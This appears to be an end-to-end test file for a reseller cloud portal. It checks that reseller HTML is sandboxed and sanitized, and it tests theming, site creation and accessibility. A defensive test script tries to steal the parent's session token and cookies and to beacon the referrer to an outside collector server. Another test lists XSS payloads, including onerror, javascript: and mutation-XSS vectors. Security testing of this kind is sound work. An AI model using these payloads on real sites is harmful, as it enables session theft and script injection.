import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, openHarness, withVisitor } from '../../../e2e/harness.ts';
import { expectToast, openScreen, screenIsReady, signInVisitor } from '../../../e2e/steps.ts';
import { problemsOf, walk } from '../../../e2e/sweep.ts';

let harness: Harness;
let reseller: string;
/** A server outside the portal that receives any data the page manages to send. */
let outside: Server;
const requestedUrls: string[] = [];

beforeAll(async () => {
  harness = await openHarness();
  outside = createServer((request, response) => {
    requestedUrls.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('ok');
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  const created = await harness.app.root.post<{ id: string }>('/sites', {
    ...{
      name: 'Nordlicht',
      systemName: 'Nordlicht Cloud',
      languages: ['en', 'he'],
      currency: 'EUR',
      timeZone: 'Europe/Berlin',
    },
    host: 'cloud.nordlicht.test',
  });
  reseller = created.body.id;
});
afterAll(async () => {
  await new Promise((resolve) => outside.close(resolve));
  await harness.close();
});

/** Tries every way to escape from a frame, and writes the results into the page. */
const maliciousPage = (collector: string) => `<h1>Help</h1><pre id="out"></pre><script>
const tried = {};
const attempt = (name, work) => { try { tried[name] = String(work()); } catch (error) { tried[name] = 'refused ' + error.name; } };
attempt('parent document', () => parent.document.title);
attempt('parent storage', () => parent.sessionStorage.getItem('token'));
attempt('parent location', () => parent.location.href);
attempt('cookie', () => document.cookie);
attempt('session storage', () => sessionStorage.length);
attempt('local storage', () => localStorage.length);
attempt('database', () => indexedDB.open('x'));
attempt('top navigation', () => { top.location = '${collector}/top'; return 'went'; });
attempt('origin', () => self.origin);
const later = async (name, work) => { try { tried[name] = String(await work()); } catch (error) { tried[name] = 'refused ' + error.name; } };
Promise.all([
  later('call', async () => (await fetch('/svc/user', { credentials: 'include' })).status),
  later('menu call', async () => (await fetch(location.origin + '/svc/header/menu', { credentials: 'include', mode: 'no-cors' })).type),
  later('telling outside', async () => (await fetch('${collector}/fetch?' + encodeURIComponent(document.referrer))).status),
  later('beacon', async () => { navigator.sendBeacon('${collector}/beacon', 'x'); return 'queued'; }),
  later('frame of the portal', () => new Promise((resolve) => {
    const frame = document.createElement('iframe'); frame.src = '/dashboard';
    frame.onload = () => { try { resolve(frame.contentDocument.title); } catch (error) { resolve('refused ' + error.name); } };
    document.body.append(frame); setTimeout(() => resolve('refused quietly'), 1500);
  })),
]).then(() => { document.getElementById('out').textContent = JSON.stringify(tried); });
</script>`;

describe('a reseller’s HTML', () => {
  it('runs, and can’t access the portal’s page, its cookies, storage and calls, or the internet', () =>
    withVisitor(harness, {}, async (visitor) => {
      visitor.expectComplaint(/./);
      const { root, siteId } = harness.app;
      const collector = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
      const { body } = await root.post<{ id: string }>(`/sites/${siteId}/externalPages`, {
        ...{
          title: { en: 'Help', he: 'עזרה' },
          section: 'support',
          icon: 'info',
          kind: 'html',
          url: '',
          isEnabled: true,
        },
        html: maliciousPage(collector),
      });
      const client = await harness.app.signInAs('user');
      await signInVisitor(visitor, client);
      const { page } = visitor;
      await openScreen(visitor, `/externalPages/${body.id}`);
      const frame = page.frameLocator('[data-part="external-page"]');
      await frame.getByRole('heading', { name: 'Help' }).waitFor();
      const out = frame.locator('#out');
      await expect.poll(() => out.textContent(), { timeout: 10_000 }).not.toBe('');
      const results = JSON.parse((await out.textContent()) ?? '{}') as Record<string, string>;
      const { origin, beacon: _beacon, ...attacks } = results;
      expect(origin).toBe('null');
      expect(Object.keys(attacks)).toHaveLength(12);
      for (const [attack, outcome] of Object.entries(attacks))
        expect(`${attack}: ${outcome}`).toMatch(/: refused/);
      expect(new URL(page.url()).pathname).toBe(`/externalPages/${body.id}`);
      expect(requestedUrls).toEqual([]);
      expect((await client.get('/user')).status).toBe(200);
    }));

  it('opened by its own URL runs in the same isolation', () =>
    withVisitor(harness, {}, async (visitor) => {
      visitor.expectComplaint(/./);
      const { root, siteId } = harness.app;
      const { body } = await root.post<{ id: string }>(`/sites/${siteId}/externalPages`, {
        ...{
          title: { en: 'Alone' },
          section: 'support',
          icon: 'info',
          kind: 'html',
          url: '',
          isEnabled: true,
        },
        html: '<p id="out"></p><script>let got; try { got = document.cookie } catch (error) { got = error.name } out.textContent = self.origin + " " + got</script>',
      });
      await signInVisitor(visitor, await harness.app.signInAs('user'));
      await visitor.page.goto(`/svc/sites/page/${body.id}`);
      await visitor.page.getByText('null SecurityError').waitFor();
    }));

  it('shown inline is sanitized: no scripts run, and only text remains', () =>
    withVisitor(harness, {}, async (visitor) => {
      const hostile = [
        '<img src=x onerror="window.ran=1">',
        '<svg><script>window.ran=1</script></svg>',
        '<a href="javascript:window.ran=1">link</a>',
        '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
        '<math><mtext><table><mglyph><style><img src=x onerror="window.ran=1"></style></mglyph></table></mtext></math>',
        '<form action="/svc/logout"><button>Sign out</button></form>',
        '<style>body{display:none}</style><link rel=stylesheet href=/evil.css><meta http-equiv=refresh content="0;url=/logout">',
        '<p class="form-problem" id="root" style="position:fixed">Kept words</p>',
      ].join('');
      await harness.app.root.put(`/sites/${reseller}/contents/login/en`, { body: hostile });
      await signInVisitor(visitor, harness.app.root);
      visitor.expectComplaint(/404/);
      await openScreen(visitor, `/sites/${reseller}/Contents`);
      const previewArea = visitor.page.locator('[data-part="content-preview"] [data-part="prose"]');
      await previewArea.getByText('Kept words').waitFor();
      const html = await previewArea.innerHTML();
      expect(html).not.toMatch(
        /onerror|<script|javascript:|<iframe|<form|<button|<style|<link|<meta|<svg|class=|id=|style=/i,
      );
      expect(await visitor.page.evaluate(() => 'ran' in window)).toBe(false);
    }));
});

describe('a site', () => {
  it('is themed next to its preview, published, and restored', () =>
    withVisitor(harness, {}, async (visitor) => {
      await signInVisitor(visitor, harness.app.root);
      await openScreen(visitor, `/sites/${reseller}/UISettings`);
      const { page } = visitor;
      const button = page.locator('[data-scheme="light"] [data-part="mock-button"]');
      const before = await button.evaluate((element) => getComputedStyle(element).backgroundColor);
      await page.getByRole('textbox', { name: 'Primary color', exact: true }).fill('#ffff00');
      await page.getByText(/Shown as #\w{6} where it wouldn’t be readable/).waitFor();
      await expect
        .poll(() => button.evaluate((element) => getComputedStyle(element).backgroundColor))
        .not.toBe(before);
      await page.getByRole('textbox', { name: 'Note' }).fill('Yellow');
      await page.getByRole('button', { name: 'Publish' }).click();
      await expectToast(page, 'Version 1 published');
      await page.locator('[data-part="look-version"]', { hasText: 'Version 1' }).waitFor();
      await page.getByRole('textbox', { name: 'Primary color', exact: true }).fill('#0f7a6c');
      await page.getByRole('button', { name: 'Publish' }).click();
      await expectToast(page, 'Version 2 published');
      await page.getByRole('button', { name: 'Restore version 1' }).click();
      await expectToast(page, 'Version 1 restored');
      await expect
        .poll(() => page.getByRole('textbox', { name: 'Primary color', exact: true }).inputValue())
        .toBe('#ffff00');
      const { body } = await harness.app.root.get<{ version: number }>(`/sites/${reseller}/look`);
      expect(body.version).toBe(3);
    }));

  it('is created below another one, and shows how to verify its hostname', () =>
    withVisitor(harness, {}, async (visitor) => {
      visitor.expectComplaint(/status of 422/);
      const admin = await harness.app.signInAs('siteAdmin');
      await signInVisitor(visitor, admin);
      await openScreen(visitor, '/createNewSite');
      const { page } = visitor;
      await page.getByLabel('Site name').fill('Hafen');
      await page.getByLabel('System name').fill('Hafen Cloud');
      await page.getByLabel('Hostname (optional)').fill('cloud.nordlicht.test');
      await page.locator('.badge', { hasText: 'Used by another site' }).waitFor();
      await page.getByLabel('Hostname (optional)').fill('cloud.hafen.test');
      await page.locator('.badge', { hasText: 'Available' }).waitFor();
      await page.getByRole('button', { name: 'Create site' }).click();
      await expectToast(page, 'Hafen created');
      await screenIsReady(page);
      await page.getByText('_cloudberth.cloud.hafen.test').waitFor();
      await page.getByText(/^cloudberth-site=/).waitFor();
      expect(await problemsOf(visitor)).toEqual([]);
    }));

  it.each([
    { device: 'desktop', scheme: 'light', language: 'en' },
    { device: 'phone', scheme: 'dark', language: 'he' },
  ] as const)('has accessible screens only: $device, $scheme, $language', (look) =>
    withVisitor(harness, look, async (visitor) => {
      visitor.expectComplaint(/404|sandboxed/);
      const root = harness.app.root;
      await root.put('/header/language', { language: look.language });
      await signInVisitor(visitor, root);
      const tabs = [
        '',
        '/RemoteLogin',
        '/externalPages',
        '/Contents',
        '/UISettings',
        '/SiteAdmin',
        '/MsCloud',
        '/Adobe',
      ];
      expect(
        await walk(visitor, [
          '/sites',
          '/createNewSite',
          ...tabs.map((tab) => `/sites/${reseller}${tab}`),
        ]),
      ).toEqual([]);
      await root.put('/header/language', { language: 'en' });
    }),
  );
});
